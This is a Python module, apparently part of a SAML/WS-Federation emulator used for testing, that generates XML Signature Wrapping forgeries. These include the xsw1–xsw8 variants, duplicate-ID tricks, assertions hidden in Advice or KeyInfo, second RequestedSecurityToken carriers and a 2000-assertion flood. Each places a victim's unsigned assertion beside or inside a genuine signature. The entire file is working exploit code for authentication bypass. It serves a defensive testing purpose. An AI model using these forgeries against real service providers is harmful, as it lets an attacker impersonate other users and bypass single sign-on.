"""Signature wrapping: a genuine signature, and somebody else's claims beside, around or inside it.

xsw1 to xsw8 are named after Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), as SAML Raider has them.
"""

from collections.abc import Callable
from typing import TYPE_CHECKING

from emulator.protocols import saml11, saml20
from emulator.protocols.saml20 import Assertion20
from emulator.protocols.wsfed import TRUST_13, TRUST_2005
from emulator.protocols.xmldsig_shape import DS, SAML11, SAML20
from emulator.serving.forging.breaks import CARRIED11, Forgery, breaks
from emulator.serving.forging.signing import SIGNATURE, read, write

if TYPE_CHECKING:
    from lxml.etree import _Element

Parts = Callable[[Forgery, "_Element", "_Element", "_Element"], "list[_Element]"]


def evil(forgery: Forgery) -> bytes:
    """The victim's assertion, unsigned."""
    module = saml20 if isinstance(forgery.victim, Assertion20) else saml11
    return "".join(module.render(forgery.victim)).encode()


def _wrapping(name: str, says: str) -> Callable[[Parts], Parts]:
    """A break given by how (original without signature, its signature, evil) are put together."""

    def register(arrange: Parts) -> Parts:
        def apply(forgery: Forgery) -> None:
            def finish(signed: bytes) -> bytes:
                original = read(signed)
                signature = original.find(SIGNATURE)
                assert signature is not None
                original.remove(signature)
                return b"".join(map(write, arrange(forgery, original, signature, read(evil(forgery)))))

            forgery.finish = finish

        breaks(name, says)(apply)
        return arrange

    return register


def _resign(original: "_Element", signature: "_Element") -> "_Element":
    """Put the signature back where it came from."""
    original.insert(1 if original.tag == f"{{{SAML20}}}Assertion" else len(original), signature)
    return original


def _inside(parent: "_Element", name: str, child: "_Element") -> "_Element":
    from lxml import etree

    etree.SubElement(parent, name).append(child)
    return parent


def _advice(forgery: Forgery, parent: "_Element", child: "_Element") -> "_Element":
    from lxml import etree

    advice = etree.SubElement(parent, f"{{{SAML11 if forgery.saml11 else SAML20}}}Advice")
    advice.append(child)
    parent.insert(1, advice)
    return parent


@_wrapping("xsw1", "the evil assertion is signed by a signature that carries the original inside")
def _xsw1(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    s.append(o)
    return [_resign(e, s)]


@_wrapping("xsw2", "an unsigned evil assertion stands before the signed one")
def _xsw2(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [e, _resign(o, s)]


@_wrapping("xsw3", "an unsigned evil assertion stands behind the signed one")
def _xsw3(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_resign(o, s), e]


@_wrapping("xsw4", "the evil assertion wraps the signed one")
def _xsw4(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    e.append(_resign(o, s))
    return [e]


@_wrapping("xsw5", "the evil assertion took the signature, the original stands behind it")
def _xsw5(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_resign(e, s), o]


@_wrapping("xsw6", "the original stands in the KeyInfo of the evil one's signature")
def _xsw6(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    info = s.find(f"{{{DS}}}KeyInfo")
    assert info is not None
    info.append(o)
    return [_resign(e, s)]


@_wrapping("xsw7", "the evil assertion stands in an extension of the signed one")
def _xsw7(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_inside(_resign(o, s), "{urn:extension}Extensions", e)]


@_wrapping("xsw8", "the original stands in a ds:Object of the evil one's signature")
def _xsw8(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_resign(e, _inside(s, f"{{{DS}}}Object", o))]


@_wrapping("xsw8-evil", "the evil assertion stands in a ds:Object of the original's signature")
def _xsw8_evil(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_resign(o, _inside(s, f"{{{DS}}}Object", e))]


@_wrapping("evil-in-advice", "the evil assertion stands in the Advice of the signed one")
def _evil_in_advice(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_advice(f, _resign(o, s), e)]


@_wrapping("original-in-advice", "the original stands in the Advice of the evil one, which has its signature")
def _original_in_advice(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_advice(f, _resign(e, s), o)]


@_wrapping("original-first", "the evil assertion has the signature, the original stands before it")
def _original_first(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [o, _resign(e, s)]


def _same_id(f: Forgery, o: "_Element", e: "_Element") -> "_Element":
    e.set(f.id_attribute, str(o.get(f.id_attribute)))
    return e


@_wrapping("duplicate-id", "the evil assertion has the signed one's id and stands first")
def _duplicate_id(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_same_id(f, o, e), _resign(o, s)]


@_wrapping("duplicate-id-last", "the evil assertion has the signed one's id and stands last")
def _duplicate_id_last(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [_resign(o, s), _same_id(f, o, e)]


@_wrapping("duplicate-id-attributes", "the evil assertion has the id the version wants, the original an `Id`")
def _duplicate_id_attributes(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    _same_id(f, o, e)
    o.set("Id", str(o.attrib.pop(f.id_attribute)))
    return [_resign(e, s), o]


@_wrapping("id-on-wrapper", "a foreign element around the signed assertion has its id")
def _id_on_wrapper(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    from lxml import etree

    wrapper = etree.Element("wrapper", {"Id": str(o.get(f.id_attribute))})
    wrapper.append(_resign(o, s))
    return [wrapper]


@_wrapping("evil-other-version", "an evil assertion of the other SAML version stands beside the signed one")
def _evil_other_version(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    own, other = (SAML11, SAML20) if f.saml11 else (SAML20, SAML11)
    return [read(write(e).replace(own.encode(), other.encode())), _resign(o, s)]


@_wrapping("evil-foreign-namespace", "an evil `Assertion` in a foreign namespace stands beside the signed one")
def _evil_foreign_namespace(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    own = SAML11 if f.saml11 else SAML20
    return [_resign(o, s), read(write(e).replace(own.encode(), b"urn:foreign"))]


@_wrapping("signature-on-parent", "the signature stands beside the assertion instead of in it")
def _signature_on_parent(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    return [o, s]


@_wrapping("extra-assertion", "the signed assertion is followed by a second, empty one")
def _extra_assertion(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    e.clear()
    return [_resign(o, s), e]


@_wrapping("many-assertions", "two thousand assertions")
def _many_assertions(f: Forgery, o: "_Element", s: "_Element", e: "_Element") -> "list[_Element]":
    from lxml import etree

    own = SAML11 if f.saml11 else SAML20
    return [_resign(o, s), *(etree.Element(f"{{{own}}}Assertion") for _ in range(2000))]


# -- the carrier ----------------------------------------------------------------------------------------------------


def _second_token(name: str, says: str, *, first: bool) -> None:
    @breaks(name, says, kinds=CARRIED11)
    def apply(forgery: Forgery) -> None:
        def carry(token: bytes) -> bytes:
            opening = token.index(b":RequestedSecurityToken>") + 1
            prefix = token[token.rindex(b"<", 0, opening) + 1 : opening]
            start, end = b"<%bRequestedSecurityToken>" % prefix, b"</%bRequestedSecurityToken>" % prefix
            second = start + evil(forgery) + end
            at = token.index(start) if first else token.index(end) + len(end)
            return token[:at] + second + token[at:]

        forgery.carry = carry


_second_token("second-token", "a second RequestedSecurityToken with the evil assertion stands first", first=True)
_second_token("second-token-last", "a second RequestedSecurityToken with the evil assertion stands last", first=False)


def _second_response(name: str, says: str, *, first: bool) -> None:
    @breaks(name, says, kinds=("wresult",))
    def apply(forgery: Forgery) -> None:
        def carry(token: bytes) -> bytes:
            inner = token.replace(TRUST_2005.encode(), TRUST_13.encode())
            start, end = inner.index(b"<saml:Assertion"), inner.index(b"</saml:Assertion>") + 17
            other = inner[:start] + evil(forgery) + inner[end:]
            name = b"t:RequestSecurityTokenResponseCollection"
            both = other + inner if first else inner + other
            return b'<%b xmlns:t="%b">%b</%b>' % (name, TRUST_13.encode(), both, name)

        forgery.carry = carry


_second_response("second-response", "a collection of two responses, the evil one first", first=True)
_second_response("second-response-last", "a collection of two responses, the evil one last", first=False)


@breaks("evil-in-lifetime", "the evil assertion stands in the Lifetime", kinds=CARRIED11)
def _evil_in_lifetime(forgery: Forgery) -> None:
    def carry(token: bytes) -> bytes:
        at = token.index(b"Lifetime>") + len(b"Lifetime>")
        return token[:at] + evil(forgery) + token[at:]

    forgery.carry = carry
